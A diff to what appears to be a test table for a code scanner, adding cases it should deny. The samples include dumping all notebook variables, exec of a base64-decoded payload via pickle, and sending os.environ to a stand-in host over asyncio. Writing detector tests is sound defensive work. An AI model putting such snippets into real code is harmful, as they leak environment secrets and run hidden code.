@@ -301,6 +301,28 @@ const cases: readonly Case[] = [
     lines: ['def f(shell, line):', `    ${sent('shell.user_ns[line].to_csv()')}`],
   },
   {
+    name: 'all variables of a notebook, one after the other',
+    tier: 'deny',
+    lines: ['def f(shell):', `    ${sent('[str(shell.user_ns[k]) for k in shell.user_ns]')}`],
+  },
+  {
+    name: 'what is decoded, by way of a pickler',
+    tier: 'deny',
+    lines: [
+      'import pickle',
+      'exec(pickle.loads(pickle.dumps(base64.b64decode("cHJpbnQoMSk7cHJpbnQoMikK"))))',
+    ],
+  },
+  {
+    name: 'a host whose name is written with capitals',
+    tier: 'deny',
+    lines: [
+      'async def f():',
+      '    _, writer = await asyncio.open_connection("c.demo-host.Info", 443)',
+      '    writer.write(json.dumps(dict(os.environ)).encode())',
+    ],
+  },
+  {
     name: 'a token that a resource server asks about',
     tier: 'pass',
     lines: ['def f(header):', `    ${sent('{"token": re.match(r"Bearer (.+)", header).group(1)}')}`],
